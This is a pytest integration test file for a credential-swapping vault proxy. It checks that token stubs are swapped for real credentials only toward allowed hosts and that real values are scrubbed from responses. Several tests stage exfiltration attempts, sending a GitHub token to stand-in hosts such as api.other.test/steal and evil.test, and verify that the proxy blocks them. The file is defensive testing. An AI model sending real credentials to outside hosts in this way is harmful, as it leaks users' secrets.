"""Stubs swapped for real values only towards their hosts, through the real proxy, real clients."""

from __future__ import annotations

import asyncio
import base64
import json

import httpx
import pytest

from paddock_testing.vault import (
    GITHUB_REAL,
    GITHUB_STUB,
    OTHER_REAL,
    OTHER_STUB,
    QUERY_REAL,
    QUERY_STUB,
    RunningVault,
    Upstream,
    require,
)

pytestmark = [pytest.mark.integration, pytest.mark.asyncio]


async def test_stub_swapped_for_allowed_host(vault: RunningVault, upstream: Upstream) -> None:
    async with vault.client() as client:
        response = await client.get(
            f"https://api.github.test:{upstream.port}/user",
            headers={"Authorization": f"Bearer {GITHUB_STUB}"},
        )
    assert response.status_code == 200
    [seen] = upstream.seen
    assert seen.header(b"authorization") == f"Bearer {GITHUB_REAL}".encode()
    # The agent sees its stub again, never the value the server echoed.
    assert GITHUB_REAL not in response.text
    assert response.headers["x-echo-authorization"] == f"Bearer {GITHUB_STUB}"


async def test_stub_to_another_host_blocked_and_never_replaced(
    vault: RunningVault, upstream: Upstream, caplog: pytest.LogCaptureFixture
) -> None:
    async with vault.client() as client:
        response = await client.get(
            f"https://api.other.test:{upstream.port}/steal?x=1",
            headers={"Authorization": f"Bearer {GITHUB_STUB}"},
        )
    assert response.status_code == 403
    assert "GITHUB_TOKEN may not be sent to api.other.test" in response.text
    assert upstream.seen == []
    [audit] = [r for r in caplog.records if r.name == "paddock_vault.audit"]
    entry = json.loads(audit.getMessage())
    assert entry["event"] == "blocked"
    assert entry["reason"] == "credential_blocked"
    assert entry["host"] == "api.other.test"
    assert entry["path"] == "/steal"  # never the query string


async def test_stub_in_request_body_to_another_host_blocked(
    vault: RunningVault, upstream: Upstream
) -> None:
    async with vault.client() as client:
        response = await client.post(
            f"https://api.other.test:{upstream.port}/steal",
            content=b"x" * 70_000 + GITHUB_STUB.encode() + b"y" * 10,
        )
    assert response.status_code == 403
    assert all(GITHUB_STUB.encode() not in seen.raw() for seen in upstream.seen)


async def test_real_value_to_wrong_host_blocked(vault: RunningVault, upstream: Upstream) -> None:
    async with vault.client() as client:
        in_header = await client.get(
            f"https://api.other.test:{upstream.port}/",
            headers={"X-Leak": f"token {GITHUB_REAL}"},
        )
        in_query = await client.get(
            f"https://api.other.test:{upstream.port}/?t={GITHUB_REAL}",
        )
        in_body = await client.post(f"https://api.other.test:{upstream.port}/", content=GITHUB_REAL)
    assert [in_header.status_code, in_query.status_code, in_body.status_code] == [403] * 3
    assert all(GITHUB_REAL.encode() not in seen.raw() for seen in upstream.seen)


async def test_credentials_never_sent_over_plain_http(
    vault: RunningVault, upstream: Upstream
) -> None:
    async with vault.client() as client:
        response = await client.get(
            f"http://api.github.test:{upstream.port}/",
            headers={"Authorization": f"Bearer {GITHUB_STUB}"},
        )
    assert response.status_code == 403
    assert "cannot verify" in response.text
    assert vault.dials.attempts == []


async def test_basic_auth_swap(vault: RunningVault, upstream: Upstream) -> None:
    async with vault.client() as client:
        response = await client.get(
            f"https://api.github.test:{upstream.port}/basic",
            auth=httpx.BasicAuth("x-access-token", GITHUB_STUB),
        )
    assert response.status_code == 200
    [seen] = upstream.seen
    expected = base64.b64encode(f"x-access-token:{GITHUB_REAL}".encode())
    assert seen.header(b"authorization") == b"Basic " + expected


async def test_basic_auth_stub_to_another_host_blocked(
    vault: RunningVault, upstream: Upstream
) -> None:
    async with vault.client() as client:
        response = await client.get(
            f"https://api.other.test:{upstream.port}/basic",
            auth=httpx.BasicAuth("x-access-token", GITHUB_STUB),
        )
    assert response.status_code == 403
    assert upstream.seen == []


async def test_query_swap_only_when_opted_in(vault: RunningVault, upstream: Upstream) -> None:
    async with vault.client() as client:
        opted_in = await client.get(f"https://query.test:{upstream.port}/q?key={QUERY_STUB}")
        not_opted = await client.get(f"https://api.github.test:{upstream.port}/q?t={GITHUB_STUB}")
    assert opted_in.status_code == not_opted.status_code == 200
    assert upstream.seen[0].query == f"key={QUERY_REAL}".encode()
    assert upstream.seen[1].query == f"t={GITHUB_STUB}".encode()
    assert QUERY_REAL not in opted_in.text


async def test_injection_adds_the_header(vault: RunningVault, upstream: Upstream) -> None:
    async with vault.client() as client:
        response = await client.get(f"https://api.other.test:{upstream.port}/injected")
    assert response.status_code == 200
    assert upstream.seen[0].header(b"x-api-key") == f"key={OTHER_REAL}".encode()
    assert OTHER_REAL not in response.text


async def test_response_scrubbing(vault: RunningVault, upstream: Upstream) -> None:
    async with vault.client() as client:
        response = await client.get(
            f"https://api.other.test:{upstream.port}/echo",
            headers={"Authorization": f"Bearer {OTHER_STUB}"},
        )
        gzipped = await client.get(
            f"https://api.other.test:{upstream.port}/gzip",
            headers={"Authorization": f"Bearer {OTHER_STUB}", "Accept-Encoding": "gzip"},
        )
    assert upstream.seen[0].header(b"authorization") == f"Bearer {OTHER_REAL}".encode()
    # The server echoed the real value in a header and in the body (plain and gzip-encoded).
    for reply in (response, gzipped):
        assert reply.status_code == 200
        assert OTHER_REAL not in reply.text
        assert all(OTHER_REAL not in v for v in reply.headers.values())
    assert response.headers["x-echo-authorization"] == f"Bearer {OTHER_STUB}"
    echoed = dict(json.loads(response.text)["headers"])
    assert echoed["authorization"] == "Bearer " + "*" * len(OTHER_REAL)
    assert echoed["x-api-key"] == "key=" + "*" * len(OTHER_REAL)


async def test_unknown_host_refused_at_connect(vault: RunningVault, upstream: Upstream) -> None:
    async with vault.client() as client:
        with pytest.raises(httpx.ProxyError, match="403"):
            await client.get(f"https://evil.test:{upstream.port}/")
    assert vault.dials.attempts == []


async def test_curl_swaps_stub(vault: RunningVault, upstream: Upstream) -> None:
    require("curl")

    proc = await asyncio.create_subprocess_exec(
        "curl", "-sS", "--fail", "--proxy", vault.proxy_url,
        "--cacert", str(vault.certs.agent_ca_file),
        "-H", f"Authorization: token {GITHUB_STUB}",
        f"https://api.github.test:{upstream.port}/curl",
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, err = await proc.communicate()
    assert proc.returncode == 0, err.decode()
    assert upstream.seen[0].header(b"authorization") == f"token {GITHUB_REAL}".encode()
    assert GITHUB_REAL.encode() not in out
